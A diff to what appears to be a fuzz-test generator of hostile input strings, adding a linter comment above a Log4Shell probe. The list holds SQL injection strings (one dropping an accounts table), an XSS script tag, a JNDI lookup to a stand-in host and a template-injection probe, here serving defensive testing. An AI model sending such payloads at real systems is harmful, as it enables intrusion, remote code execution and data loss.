@@ -87,6 +87,7 @@ const hostileText = fc.oneof(
     "' OR '1'='1' --",
     '"; DROP TABLE accounts; --',
     "<script>alert(1)</script>",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, sent literally
     "${jndi:ldap://example.invalid/a}",
     "{{7*7}}",
     "\uD800",
